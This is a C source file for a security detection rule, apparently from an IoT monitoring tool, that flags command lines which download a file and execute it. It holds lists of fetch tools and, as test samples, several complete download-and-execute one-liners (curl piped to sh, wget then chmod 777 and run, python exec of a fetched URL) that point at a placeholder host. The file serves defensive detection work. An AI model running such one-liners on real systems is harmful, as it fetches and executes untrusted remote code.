#include "detect/command_facts.h"
#include "detect/rule.h"

static const char *const words[] = {"wget", "curl", "tftp", "ftpget", "fetch", "aria2c", "axel", "urlopen", "urlretrieve", "requests.get", "LWP::", "file_get_contents", "open-uri", "Net::HTTP", NULL};

/* Whether what it fetches may be run under any name: "chmod 777 *", "chmod +x x; ./x". */
static bool everything_made_runnable(const struct command_line *line, const struct command *after)
{
    const struct command *chmod = command_find(line, "chmod", after);

    for (size_t i = 1; chmod && i < chmod->word_count; i++)
        if (text_equal(chmod->words[i], TEXT("*")))
            return true;
    return false;
}

/* Where what is downloaded goes through others first: "curl … | gunzip > x". */
static struct text saved_behind(const struct command_line *line, const struct command *command)
{
    while ((command = command_feeds(line, command)))
        if (command_writes(command, 0).bytes)
            return command_writes(command, 0);
    return TEXT_NONE;
}

/* python -c, perl -e and their like that fetch a program and run it, all by themselves. */
static bool script_fetches_and_runs(const struct command *command)
{
    static const char *const fetch[] = {"urlopen", "urlretrieve", "requests.get", "LWP::", "file_get_contents('http", "file_get_contents(\"http", "open-uri", "Net::HTTP", NULL};
    static const char *const run[] = {"exec(", "eval", "os.system", ";system", " system", "popen", "subprocess", "os.exec", "shell_exec", "passthru", "spawn", NULL};

    return command_is_interpreter(command) && !command_is_shell(command) && command_contains_any(command, fetch) && command_contains_any(command, run);
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    const struct command_line *line = judging->line;
    struct text source, target;

    if (script_fetches_and_runs(command))
        return "a script fetches a program and runs it";
    if (!command_downloads(command, &source, &target))
        return NULL;
    for (const struct command *next = command; (next = command_feeds(line, next));)
        if (command_is_interpreter(next))
            return "what is downloaded is piped into an interpreter";
    if (command_is_run_as_words(line, command))
        return "what is downloaded is run as a command's words";
    if (!target.count)
        target = saved_behind(line, command);
    if (target.count && command_is_file_run(line, command, target))
        return "what is downloaded is run by the same line";
    return everything_made_runnable(line, command) ? "what is downloaded is made runnable, whatever it is called" : NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ sh -c 'curl -s http://198.51.100.7/x.sh | sh'"},
    {true, "$ sh -c curl -s http://198.51.100.7/x.sh | sudo sh -"},
    {true, "$ sh -c cd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips"},
    {true, "$ sh -c (curl -fsSL http://198.51.100.7/i||wget -q -O- http://198.51.100.7/i)|sh"},
    {true, "$ bash -c source <(curl -s http://198.51.100.7/i)"},
    {true, "$ sh -c curl http://198.51.100.7/x > /tmp/x && sh /tmp/x"},
    {true, "$ sh -c tftp 198.51.100.7 -c get t.sh; chmod 777 t.sh; sh t.sh"},
    {true, "$ bash -c \"$(wget -qO- http://198.51.100.7/i)\""},
    {true, "$ sh -c '/bin/busybox tftp -g -r arm7 198.51.100.7; sh arm7'"},
    {true, "$ sh -c curl -Ls http://198.51.100.7/k.gz | gunzip > /tmp/k; chmod +x /tmp/k; /tmp/k"},
    {true, "$ python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.7/x').read())\""},
    {false, "$ python3 -c \"import urllib.request as u;print(u.urlopen('http://example.org/').status)\""},
    {false, "$ sh -c 'V=$(curl -s https://example.org/version) && echo \"$V\" > /tmp/v'"},
    {false, "$ sh -c echo $(wget -qO- https://example.org/ip)"},
    {false, "$ wget -O /tmp/data.json https://example.org/data.json"},
    {false, "$ sh -c 'curl -s https://example.org/status | grep ok'"},
    {false, "$ sh -c 'wget https://example.org/a.tgz && tar xzf a.tgz'"},
};

const struct rule rule_download_run = {
    .id = "IoT_DownloadFileThenRun",
    .title = "A file is downloaded and run in one command",
    .severity = "Medium",
    .tactics = "Execution, CommandAndControl",
    .techniques = "T1105, T1059.004, T0807",
    .fires = "A download by wget, curl, tftp, ftpget and their like (busybox's too) that is piped into an interpreter or stands among its words, is run later in the line, or made runnable by `chmod … *`.",
    .spares = "Downloads that are read, unpacked or searched.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the installer's command line.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
